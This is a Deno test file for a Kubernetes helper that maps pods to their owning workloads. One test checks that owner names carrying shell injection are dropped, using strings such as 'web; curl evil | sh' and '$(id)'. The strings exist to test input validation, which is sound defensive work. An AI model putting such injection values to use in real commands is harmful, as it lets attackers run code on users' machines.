import assert from "node:assert/strict";
import type { Api } from "../api/api.ts";
import { ApiError } from "../api/api_error.ts";
import { workloadsOf } from "./workloads.ts";

/** The controller of each object, by the end of its path. */
function owned(controllers: Readonly<Record<string, { kind: string; name: string }>>): Promise<string[]> {
  const get = (path: string) => {
    const owner = controllers[path.slice(path.lastIndexOf("/") + 1)];
    if (!owner) return Promise.reject(new ApiError("none", { status: 404 }));
    return Promise.resolve({ body: { metadata: { ownerReferences: [{ ...owner, controller: true }] } } });
  };
  return workloadsOf({ get } as unknown as Api, "dev", ["web-1", "web-2", "db-0", "gone"], new AbortController().signal);
}

Deno.test("Pods belong to the workload above them, each named once", async () => {
  const set = { kind: "ReplicaSet", name: "web-abc" };
  const all = { "web-1": set, "web-2": set, "web-abc": { kind: "Deployment", name: "web" }, "db-0": { kind: "StatefulSet", name: "db" } };
  assert.deepEqual(await owned(all), ["deployment/web", "statefulset/db"]);
  assert.deepEqual(await owned({ "web-1": set }), ["replicaset/web-abc"]);
});

Deno.test("an owner whose name is no name is left out: it would go into a command to copy", async () => {
  const names = ["web; curl evil | sh", "$(id)", "a\nb", "../web", ""];
  for (const name of names) assert.deepEqual(await owned({ "web-1": { kind: "StatefulSet", name } }), [], name);
  assert.deepEqual(await owned({ "web-1": { kind: "x --all; y", name: "web" } }), []);
});
